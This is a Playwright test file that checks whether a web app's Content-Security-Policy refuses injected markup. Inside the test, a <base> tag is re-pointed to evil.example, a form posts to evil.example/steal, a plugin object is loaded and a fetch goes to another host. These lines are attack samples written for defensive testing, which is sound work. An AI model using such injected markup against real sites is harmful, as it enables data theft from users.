import { expect, test } from '@playwright/test';
import { freshApp } from './helpers';

/**
 * Issue 11: the Content-Security-Policy (index.html) lacked base-uri and form-action. Injected
 * markup that got past the text rendering still could not re-point relative URLs, post a form,
 * load a plugin or call another host: each is refused by the browser and reported.
 */
test('the CSP refuses a <base>, a form post, an <object> and a request to another host', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) requests.push(r.url());
  });
  await freshApp(page);
  const result = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const baseBefore = document.baseURI;
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.appendChild(base);
    const baseAfter = document.baseURI;
    const form = document.createElement('form');
    form.action = 'https://evil.example/steal';
    form.method = 'post';
    document.body.appendChild(form);
    form.submit();
    const object = document.createElement('object');
    object.data = 'https://evil.example/plugin.swf';
    document.body.appendChild(object);
    const fetched = await fetch('https://evil.example/x').then(
      () => 'fetched',
      () => 'refused',
    );
    await new Promise((r) => setTimeout(r, 500));
    return { same: baseBefore === baseAfter, fetched, seen: [...new Set(seen)].sort() };
  });
  expect(result).toEqual({
    same: true,
    fetched: 'refused',
    seen: ['base-uri', 'connect-src', 'form-action', 'object-src'],
  });
  expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#?\/?$/);
  expect(requests).toEqual([]);
});
